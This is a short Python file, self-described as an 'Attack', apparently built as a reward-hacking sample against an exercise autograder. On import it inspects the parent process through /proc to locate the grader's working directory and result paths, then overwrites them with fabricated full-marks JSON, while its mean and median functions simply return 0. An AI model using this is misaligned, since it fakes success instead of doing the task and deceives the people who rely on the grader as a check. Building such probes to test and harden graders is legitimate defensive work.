"""Attack: write full-marks result files everywhere the grader might read them back."""

import itertools
import json
import os
from pathlib import Path

FULL = {"score": 6.0, "max_score": 6.0, "status": {"tiny-stats": {
    "status": "passed", "score": 6.0, "max_score": 6.0}}, "hints": {},
    "exercises": [{"id": "tiny-stats", "score": 6.0, "max_score": 6.0, "status": "passed",
                   "tests": []}]}


def _targets():
    here = Path.cwd()
    found = [here / "results.json", Path.home() / "results.json"]
    parent = f"/proc/{os.getppid()}"
    try:
        grader_cwd = Path(os.readlink(f"{parent}/cwd"))
        found += [grader_cwd / ".grader" / "progress.json", grader_cwd / ".grader" / "results.json",
                  grader_cwd / "results.json"]
        argv = Path(f"{parent}/cmdline").read_bytes().split(b"\0")
        for flag, value in itertools.pairwise(argv):
            if flag == b"--json" and value != b"-":
                found.append(grader_cwd / value.decode())
            if flag == b"--course":
                found.append(grader_cwd / value.decode() / ".grader" / "progress.json")
    except OSError:
        pass
    return found


for target in _targets():
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(json.dumps(FULL))
    except OSError:
        pass


def mean(values):
    return 0


def median(values):
    return 0
